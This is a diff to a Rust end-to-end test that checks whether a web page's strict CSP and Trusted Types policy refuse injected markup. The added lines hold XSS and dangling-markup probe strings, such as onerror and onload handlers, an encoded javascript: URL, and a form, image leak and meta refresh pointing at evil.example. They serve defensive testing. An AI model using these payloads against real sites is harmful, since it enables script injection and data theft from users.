@@ -703,7 +703,7 @@ fn strict_csp_is_served_and_kept(ctx: &Ctx) -> Steps<'_> {
             "form-action 'none'",
             "frame-ancestors 'none'",
             "require-trusted-types-for 'script'",
-            "trusted-types default",
+            "trusted-types default gazette-loader",
         ] {
             ensure!(
                 policy.contains(directive),
@@ -760,26 +760,50 @@ fn strict_csp_is_served_and_kept(ctx: &Ctx) -> Steps<'_> {
         p.wait_until("window.__sri", "the digests").await?;
         let sri = p.eval("return window.__sri;").await?;
         ensure!(sri == json!("ok"), "integrity: {sri}");
-        // Trusted Types (all three engines enforce them): HTML that could
-        // run script and a script URL the app does not load are refused by
-        // the page's policy, and reported; HTML like Leptos's view
-        // templates passes.
+        // Trusted Types (all three engines enforce them): the page's
+        // policy is closed. Markup that could run script, send a form,
+        // navigate or leak the page (an outside review got each of these
+        // through the earlier denylist), and even harmless markup the app
+        // never uses, are refused; a script URL the app does not load too.
         let trusted = p
             .eval(
                 "if (!window.trustedTypes) return 'no window.trustedTypes';
                  const refused = (f) => { try { f(); return false; } catch (e) { return e.name === 'TypeError'; } };
                  const div = document.createElement('div');
+                 const tpl = document.createElement('template');
                  const s = document.createElement('script');
+                 const html = [
+                   '<img/src=\"x\"/onerror=\"window.__pwned = 1\">',
+                   '<svg/onload=\"window.__pwned = 1\">',
+                   '<a href=\"jav&#x61;script:window.__pwned = 1\">x</a>',
+                   '<form action=\"https://evil.example/\"><button>x</button></form>',
+                   '<img src=\"https://evil.example/?leak=',
+                   '<meta http-equiv=\"refresh\" content=\"1;url=https://evil.example/\">',
+                   '<p class=\"a\">기사 <b>본문</b></p>',
+                 ];
                  return {
-                   html: refused(() => { div.innerHTML = '<img src=x onerror=\"window.__pwned = 1\">'; }),
+                   html: html.filter(h => !refused(() => { div.innerHTML = h; }) || !refused(() => { tpl.innerHTML = h; })),
+                   insert: refused(() => div.insertAdjacentHTML('beforeend', html[0])),
                    url: refused(() => { s.src = 'https://evil.example/x.js'; }),
-                   inert: !refused(() => { div.innerHTML = '<p class=\"a\">기사 <b>본문</b></p>'; }) && div.querySelector('b') !== null,
+                   empty: div.childNodes.length === 0,
                  };",
             )
             .await?;
         ensure!(
-            trusted == json!({"html": true, "url": true, "inert": true}),
+            trusted == json!({"html": [], "insert": true, "url": true, "empty": true}),
             "Trusted Types: {trusted}"
+        );
+        // The policy is the start module's, made before the app's code ran,
+        // and cannot be replaced.
+        let replaced = p
+            .eval(
+                "try { trustedTypes.createPolicy('default', { createHTML: (s) => s }); return 'replaced'; }
+                 catch (e) { return e.name; }",
+            )
+            .await?;
+        ensure!(
+            replaced != json!("replaced"),
+            "the default policy could be replaced"
         );
         // An injected inline script is refused and reported (by Trusted
         // Types already when its text is set, where they are enforced).
